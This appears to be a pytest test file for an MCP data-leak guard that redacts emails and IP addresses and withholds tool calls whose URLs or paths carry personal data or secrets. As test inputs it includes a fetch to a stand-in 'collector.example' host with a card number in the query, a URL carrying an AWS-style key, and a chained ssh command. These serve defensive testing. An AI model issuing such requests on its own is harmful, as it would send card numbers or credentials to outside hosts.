"""Fields a rewrite would break (issue 22, items 1 and 2): locators the client chose and MCP's
protocol identifiers are never rewritten; what must not pass there is withheld instead."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from weir import Policy
from weir.mcp import AuditLog, Guard, Withheld
from weir.mcp.fields import is_identifier, is_locator, tokens

EMAIL = "alice.smith@example.com"
CARD = "4111111111111111"
AWS = "AKIAZ2XQ7RTVNBLZ4GRA"
TEMPLATE = f"test://template/{EMAIL}/data"


@pytest.fixture(scope="module")
def guard() -> Guard:
    return Guard(audit=False)


@pytest.mark.parametrize(
    "value",
    [
        "http://127.0.0.1:8765/clean.txt",
        "https://api.example.com/v1/items?page=2",
        "file:///srv/data/report.csv",
        "mailto:team@example.com",
        "/home/jane/My Documents/notes.txt",
        "./src/main.rs",
        "~/repo",
        r"C:\Users\jane\report.docx",
        r"\\fileserver\share\q3.xlsx",
        "example.com",
        "db.internal:5432",
        "localhost:8080",
        "10.0.0.7",
        "192.168.1.20:22",
        "fe80::1%eth0",
        "[::1]:80",
    ],
)
def test_locators(value: str) -> None:
    assert is_locator(value)


@pytest.mark.parametrize(
    "value",
    [
        "hello",
        "3.14",
        "4111.1111.1111.1111",
        "jane.doe@example.com",
        "call me at 555-0100",
        "Subject:hi",
        "see http://example.com for details",
        "line one\nline two",
        "/" + "a" * 9000,
    ],
)
def test_not_locators(value: str) -> None:
    assert not is_locator(value)


def test_identifiers_are_mcp_fields_not_the_tool_s_data() -> None:
    assert is_identifier(tokens("/contents/0/uri"))
    assert is_identifier(tokens("/content/2/resource/uri"))
    assert is_identifier(tokens("/nextCursor"))
    assert not is_identifier(tokens("/structuredContent/customer/uri"))
    assert not is_identifier(tokens("/content/0/text"))
    assert tokens("/a~1b/c~0d") == ["a/b", "c~d"]


# --- what the client sends --------------------------------------------------------------------


def test_a_clean_url_with_an_ip_reaches_the_tool_unchanged(guard: Guard) -> None:
    args = {"url": "http://127.0.0.1:8765/clean.txt", "max_length": 5000}
    assert guard.tool_call("fetch", args) is args


def test_addresses_typed_into_free_text_are_reported_not_rewritten(guard: Guard) -> None:
    args = {"command": "ssh admin@10.0.0.7 && arp -a | grep 00:1a:2b:3c:4d:5e"}
    assert guard.tool_call("run", args) is args


def test_personal_data_in_free_text_is_still_redacted(guard: Guard) -> None:
    assert guard.tool_call("note", {"text": f"mail {EMAIL} at 10.0.0.7"}) == {
        "text": "mail [EMAIL_ADDRESS] at 10.0.0.7"
    }


def test_personal_data_inside_a_url_argument_blocks_the_call(guard: Guard) -> None:
    with pytest.raises(Withheld) as e:
        guard.tool_call("fetch", {"url": f"https://collector.example/?c={CARD}"})
    assert e.value.reason == "blocked" and e.value.counts == {"CREDIT_CARD": 1}
    assert "does not rewrite" in str(e.value) and "mcp.locators" in str(e.value)
    assert CARD not in str(e.value)
    with pytest.raises(Withheld, match="does not rewrite"):
        guard.tool_call("read_file", {"path": f"/exports/{EMAIL}.csv"})


def test_a_secret_blocks_in_a_locator_whatever_the_setting() -> None:
    for locators in ("block", "pass"):
        g = Guard(
            Policy.from_dict({"categories": {"secret": "block"}, "mcp": {"locators": locators}}), audit=False
        )
        with pytest.raises(Withheld, match="AWS_ACCESS_KEY_ID") as e:
            g.tool_call("fetch", {"url": f"https://x.example/?k={AWS}"})
        assert "does not rewrite" not in str(e.value)


def test_locators_pass_forwards_unchanged_and_audits(tmp_path: Path) -> None:
    audit = tmp_path / "audit.jsonl"
    policy = Policy.builtin("default")
    g = Guard(Policy.from_dict({**_as_dict(policy), "mcp": {"locators": "pass"}}), audit=AuditLog(audit))
    args = {"url": f"https://crm.example/customers/{EMAIL}"}
    assert g.tool_call("fetch", args) is args
    events = [json.loads(line) for line in audit.read_text().splitlines()]
    assert [e["action"] for e in events] == ["report"]
    assert EMAIL not in audit.read_text()


def test_a_request_uri_the_client_chose_is_not_rewritten(guard: Guard) -> None:
    params = {"uri": TEMPLATE}
    assert guard.inbound("resources/read", params) is params


# --- what the server sends --------------------------------------------------------------------


def test_the_requested_uri_comes_back_unchanged_and_the_text_is_redacted(guard: Guard) -> None:
    result = {"contents": [{"uri": TEMPLATE, "mimeType": "text/plain", "text": f"owner {EMAIL}"}]}
    out = guard.resource_result(TEMPLATE, result)
    assert out["contents"][0] == {"uri": TEMPLATE, "mimeType": "text/plain", "text": "owner [EMAIL_ADDRESS]"}


def test_an_identifier_the_client_did_not_ask_for_is_withheld_not_rewritten(guard: Guard) -> None:
    link = {"type": "resource_link", "uri": f"crm://customers/{EMAIL}", "name": "customer"}
    with pytest.raises(Withheld, match="protocol identifier") as e:
        guard.tool_result("find", {"content": [link]})
    assert e.value.counts == {"EMAIL_ADDRESS": 1}
    with pytest.raises(Withheld, match="protocol identifier"):
        guard.resource_result("test://other", {"contents": [{"uri": TEMPLATE, "text": "x"}]})


def test_the_tool_s_own_fields_named_uri_are_data(guard: Guard) -> None:
    result: dict[str, Any] = {"content": [], "structuredContent": {"uri": f"crm://customers/{EMAIL}"}}
    out = guard.tool_result("find", result)
    assert out["structuredContent"] == {"uri": "crm://customers/[EMAIL_ADDRESS]"}


def test_a_result_may_echo_the_locators_its_call_was_given(guard: Guard) -> None:
    args = {"url": "http://127.0.0.1:8765/clean.txt"}
    result = {
        "content": [{"type": "text", "text": "Contents of http://127.0.0.1:8765/clean.txt: ok, see 10.0.0.7"}]
    }
    out = guard.tool_result("fetch", result, args)
    assert out["content"][0]["text"] == "Contents of http://127.0.0.1:8765/clean.txt: ok, see [IP_ADDRESS]"
    # Only a whole echo: 10.0.0.7 does not stand in 10.0.0.70.
    near = guard.tool_result(
        "fetch", {"content": [{"type": "text", "text": "host 10.0.0.7"}]}, {"u": "http://10.0.0.70/"}
    )
    assert near["content"][0]["text"] == "host [IP_ADDRESS]"
    # Without the call's arguments (or with others) the address is redacted as any other.
    assert "127.0.0.1" not in guard.tool_result("fetch", result)["content"][0]["text"]
    assert (
        "127.0.0.1"
        not in guard.tool_result("fetch", result, {"q": "127.0.0.1 in free text"})["content"][0]["text"]
    )


def test_addresses_in_results_are_still_redacted(guard: Guard) -> None:
    out = guard.tool_result("hosts", {"content": [{"type": "text", "text": "db at 10.0.0.7"}]})
    assert out["content"][0]["text"] == "db at [IP_ADDRESS]"


def _as_dict(policy: Policy) -> dict[str, Any]:
    import msgspec

    return msgspec.to_builtins(policy)  # type: ignore[no-any-return]
